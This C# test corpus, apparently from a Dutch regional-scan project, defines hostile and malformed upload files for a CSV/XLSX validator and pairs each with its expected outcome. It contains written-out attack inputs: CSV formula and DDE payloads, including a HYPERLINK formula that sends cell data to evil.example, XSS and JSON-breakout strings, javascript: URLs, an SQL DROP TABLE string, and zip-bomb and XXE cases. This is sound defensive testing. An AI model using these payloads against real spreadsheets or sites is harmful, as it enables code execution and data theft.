using System.Text;
using Regioscan.Core.Validation;

namespace Regioscan.Reliability.Tests.Hostile;

/// <summary>
/// The hostile and malformed files, each with the outcome the validator must give: a specific error, or a safe
/// acceptance (the text is kept as text and neutralised where it is published). Files are committed under
/// Corpus/ so people can open them; the test keeps them equal to what is generated here.
/// </summary>
public static class HostileCorpus
{
    /// <summary>The outcome "accepted": no error, the scan is staged.</summary>
    public const string Accepted = "accepted";

    /// <summary>Formula payloads that must arrive neutralised in published CSVs.</summary>
    public static IReadOnlyList<(string Name, string Column, string Payload)> Formulas { get; } =
    [
        ("formula-equals", "initiatief_naam", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")"),
        ("formula-plus", "omschrijving", "+31 50 000 0000 (telefonisch spreekuur)"),
        ("formula-minus", "penvoerder", "-2+3+cmd|' /C calc'!A0"),
        ("formula-at", "activiteit_naam", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("formula-tab", "omschrijving", "\t=1+1"),
        ("formula-cr", "omschrijving", "\r=1+1"),
        ("formula-dde", "penvoerder", "=cmd|' /C notepad'!'A1'"),
    ];

    /// <summary>Markup and script payloads that must be published as plain text.</summary>
    public static IReadOnlyList<(string Name, string Column, string Payload)> Markup { get; } =
    [
        ("markup-script", "omschrijving", "<script>alert('regioscan')</script>"),
        ("markup-img-onerror", "initiatief_naam", "<img src=x onerror=alert(1)> Werkplaats"),
        ("markup-closing-script", "penvoerder", "</script><script>alert(2)</script>"),
        ("markup-json-breakout", "omschrijving", "\"}];alert(3);//"),
        ("markup-bidi-override", "activiteit_naam", "Scan \u202Eexe.fdp"),
    ];

    public static IReadOnlyList<HostileCase> Cases { get; } = Build();

    private static List<HostileCase> Build()
    {
        var row = Row;
        var cases = new List<HostileCase>
        {
            // Not text at all.
            new("binary-random.bin", "4 KiB of random bytes", () => RandomBytes(4096), ErrorCodes.UnsupportedFormat),
            new("empty.csv", "no bytes", () => [], ErrorCodes.EmptyFile),
            new("whitespace-only.csv", "blank lines, spaces and tabs", () => "\r\n  \t\n\n"u8.ToArray(), ErrorCodes.EmptyFile),
            new("bom-only.csv", "a UTF-8 byte order mark and nothing else", () => [0xEF, 0xBB, 0xBF], ErrorCodes.EmptyFile),
            new("utf16-bom-only.csv", "a UTF-16 byte order mark and nothing else", () => [0xFF, 0xFE], ErrorCodes.EmptyFile),
            new("separators-only.csv", "rows of commas only", () => ",,,,,\r\n,,,,\r\n"u8.ToArray(), ErrorCodes.EmptyFile),
            new("pdf-document.csv", "a PDF document named .csv", () => "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"u8.ToArray(), ErrorCodes.UnsupportedFormat),
            new("old-excel.xls", "an OLE2 (Excel 97) header", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]], ErrorCodes.UnsupportedFormat),
            new("plain-archive.zip", "a zip archive that is not a workbook", XlsxFiles.PlainZip, ErrorCodes.UnsupportedFormat),
            new("png-image.csv", "a PNG image named .csv", () => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, .. "IHDR"u8.ToArray(), .. new byte[64]], ErrorCodes.UnsupportedFormat),
            new("gzip-compressed.csv", "a gzip-compressed scan", GzipScan, ErrorCodes.UnsupportedFormat),
            new("html-page.csv", "an HTML page instead of a scan", () => "<!DOCTYPE html><html><body><h1>Regioscan</h1><p>Zie bijlage</p></body></html>\n"u8.ToArray(), ErrorCodes.UnsupportedFormat),
            new("json-document.csv", "a JSON document instead of a scan", () => "{\"initiatieven\": [{\"naam\": \"Werkplaats\"}]}\n"u8.ToArray(), ErrorCodes.UnsupportedFormat),

            // Workbooks that attack a reader (the XLSX reader's own guard tests live with that reader).
            new("xlsx-zip-bomb.xlsx", "a workbook whose sheet inflates 64 MiB → about 1000:1", () => XlsxFiles.ZipBomb(64L << 20), ErrorCodes.UnsupportedFormat),
            new("xlsx-nested-zip-bomb.xlsx", "a workbook whose sheet is itself a zip bomb", XlsxFiles.NestedZipBomb, ErrorCodes.UnsupportedFormat),
            new("xlsx-entity-expansion.xlsx", "\"billion laughs\": 10⁹ nested XML entities", XlsxFiles.EntityExpansion, ErrorCodes.UnsupportedFormat),
            new("xlsx-external-entity.xlsx", "an XML external entity reading /etc/passwd", XlsxFiles.ExternalEntity, ErrorCodes.UnsupportedFormat),

            // Broken text.
            new("nul-byte-in-cell.csv", "a NUL byte inside a cell", () => ScanCsv.WithBytes(ScanCsv.With("omschrijving", "Coaching@@ voor mkb"), [0]), ErrorCodes.UnsupportedFormat),
            new("nul-byte-after-64k.csv", "a NUL byte after the first 64 KiB (beyond the format sniffing)", NulAfterSniffing, ErrorCodes.EncodingError),
            new("control-characters.csv", "BEL and other control characters in a cell", () => ScanCsv.Text(ScanCsv.With("omschrijving", "Coaching\u0007\u0001 voor mkb")), ErrorCodes.EncodingError),
            new("invalid-utf8.csv", "a UTF-8 file with one invalid byte sequence (C3 28): read as Windows-1252", () => ScanCsv.WithBytes(ScanCsv.With("penvoerder", "Economic Board Frysl@@n"), [0xC3, 0x28]), Accepted),
            new("overlong-utf8.csv", "an overlong UTF-8 encoding of '/' (C0 AF): not UTF-8, read as Windows-1252, no '/' appears", () => ScanCsv.WithBytes(ScanCsv.With("omschrijving", "a@@b"), [0xC0, 0xAF]), Accepted),
            new("utf8-surrogate.csv", "an encoded UTF-16 surrogate (ED A0 80): not UTF-8, read as Windows-1252", () => ScanCsv.WithBytes(ScanCsv.With("omschrijving", "a@@b"), [0xED, 0xA0, 0x80]), Accepted),
            new("utf16-without-bom.csv", "UTF-16 little-endian text without a byte order mark", () => Encoding.Unicode.GetBytes(ScanCsv.Render([row(1, "Digitale Werkplaats Groningen")])), ErrorCodes.UnsupportedFormat),
            new("lone-cr-line-endings.csv", "old Mac line endings (CR only)", () => Encoding.UTF8.GetBytes(ScanCsv.Render([row(1, "Digitale Werkplaats Groningen")]).Replace("\r\n", "\r", StringComparison.Ordinal)), Accepted),
            new("zero-width-in-province.csv", "a zero-width space inside the province name: matched to Groningen", () => ScanCsv.Text(ScanCsv.With("provincie", "Gron\u200Bingen")), Accepted),

            // Quotes.
            new("unclosed-quote.csv", "a quote that never closes", () => Encoding.UTF8.GetBytes(ScanCsv.Render([row(1, "Digitale Werkplaats Groningen")]).Replace("Gratis", "\"Gratis", StringComparison.Ordinal)), ErrorCodes.UnclosedQuote),
            new("deeply-quoted-cell.csv", "a cell of 20,000 doubled quotes (quotes within quotes)", () => ScanCsv.Text(ScanCsv.With("omschrijving", new string('"', 20_000))), Accepted),
            new("quote-inside-unquoted-cell.csv", "a bare quote in the middle of an unquoted cell", () => Encoding.UTF8.GetBytes(ScanCsv.Render([row(1, "Digitale Werkplaats Groningen")]).Replace("Gratis digitale", "Gratis 12\" digitale", StringComparison.Ordinal)), Accepted),

            // Shape and size.
            new("columns-10000.csv", "10,000 columns in the header row", TenThousandColumns, ErrorCodes.FileTooLarge),
            new("cell-40000-chars.csv", "a description of 40,000 characters", () => ScanCsv.Text(ScanCsv.With("omschrijving", new string('x', 40_000))), ErrorCodes.CellTooLong),
            new("line-10mb-no-newline.csv", "10 MB on one line without a separator or newline", () => Encoding.ASCII.GetBytes(new string('a', 10_000_000)), ErrorCodes.FileTooLarge, Committed: false),
            new("blank-lines-100000.csv", "100,000 blank lines before the header: the first 64 KiB are blank, so the file is taken for empty (a known limit of format sniffing)", () => Encoding.UTF8.GetBytes(new string('\n', 100_000) + ScanCsv.Render([row(1, "Digitale Werkplaats Groningen")])), ErrorCodes.EmptyFile),
            new("header-repeated.csv", "the header row twice", () => Encoding.UTF8.GetBytes(string.Join(',', ScanCsv.Header.Concat(ScanCsv.Header)) + "\r\n" + string.Join(',', Enumerable.Repeat(ScanCsv.Header.Select(h => ScanCsv.Quote(ScanCsv.ValidRow()[h])), 2).SelectMany(c => c)) + "\r\n"), ErrorCodes.DuplicateColumn),
            new("multi-value-10000.csv", "one code repeated 10,000 times in a multi-value cell", () => ScanCsv.Text(ScanCsv.With("digitaliseringsvorm", string.Join('|', Enumerable.Repeat("ai", 10_000)))), Accepted),

            // Values that try to be something else.
            new("javascript-url.csv", "a javascript: URL as website", () => ScanCsv.Text(ScanCsv.With("website", "javascript:alert(1)")), ErrorCodes.TypeError),
            new("data-url.csv", "a data: URL as website", () => ScanCsv.Text(ScanCsv.With("website", "data:text/html,<script>alert(1)</script>")), ErrorCodes.TypeError),
            new("formula-in-number.csv", "a formula in bereik_per_jaar", () => ScanCsv.Text(ScanCsv.With("bereik_per_jaar", "=1+1")), ErrorCodes.TypeError),
            new("number-overflow.csv", "a reach of 10²⁰ (beyond 64-bit integers)", () => ScanCsv.Text(ScanCsv.With("bereik_per_jaar", "100000000000000000000")), ErrorCodes.OutOfRange),
            new("nan-latitude.csv", "NaN as latitude", () => ScanCsv.Text(ScanCsv.With("latitude", "NaN")), ErrorCodes.TypeError),
            new("infinite-longitude.csv", "1e308 as longitude", () => ScanCsv.Text(ScanCsv.With("longitude", "1e308")), ErrorCodes.TypeError),
            new("sql-in-text.csv", "SQL in a text cell", () => ScanCsv.Text(ScanCsv.With("penvoerder", "'; DROP TABLE initiatives; --")), Accepted),
        };

        cases.AddRange(Formulas.Select(f => new HostileCase(f.Name + ".csv", $"formula injection in {f.Column}: `{Printable(f.Payload)}`",
            () => ScanCsv.Text(ScanCsv.With(f.Column, f.Payload)), Accepted)));
        cases.AddRange(Markup.Select(m => new HostileCase(m.Name + ".csv", $"markup in {m.Column}: `{Printable(m.Payload)}`",
            () => ScanCsv.Text(ScanCsv.With(m.Column, m.Payload)), Accepted)));
        return cases;
    }

    private static Dictionary<string, string> Row(int activity, string initiative) => ScanCsv.ValidRow(activity, initiative);

    public static string Printable(string text) =>
        text.Replace("\t", "\\t", StringComparison.Ordinal).Replace("\r", "\\r", StringComparison.Ordinal)
            .Replace("\u202E", "\\u202E", StringComparison.Ordinal).Replace("|", "\\|", StringComparison.Ordinal);

    private static byte[] RandomBytes(int count)
    {
        var bytes = new byte[count];
        new Random(6).NextBytes(bytes);
        return bytes;
    }

    private static byte[] GzipScan()
    {
        using var buffer = new MemoryStream();
        using (var gzip = new System.IO.Compression.GZipStream(buffer, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
        {
            gzip.Write(ScanCsv.Text(ScanCsv.ValidRow()));
        }

        return buffer.ToArray();
    }

    private static byte[] NulAfterSniffing()
    {
        var rows = Enumerable.Range(1, 400).Select(i => ScanCsv.ValidRow(i)).ToList();
        rows.Add(ScanCsv.With("omschrijving", "Coaching@@ voor mkb", activity: 401));
        var text = Encoding.UTF8.GetBytes(ScanCsv.Render(rows));
        Assert.True(text.Length > 70_000, "the NUL must lie beyond the first 64 KiB");
        var marker = text.AsSpan().IndexOf("@@"u8);
        return [.. text.AsSpan(0, marker), 0, .. text.AsSpan(marker + 2)];
    }

    private static byte[] TenThousandColumns()
    {
        var header = string.Join(',', ScanCsv.Header.Concat(Enumerable.Range(1, 10_000 - ScanCsv.Header.Count).Select(i => $"extra_{i}")));
        return Encoding.UTF8.GetBytes(header + "\r\n" + string.Join(',', ScanCsv.Header.Select(h => ScanCsv.Quote(ScanCsv.ValidRow()[h]))) + "\r\n");
    }
}
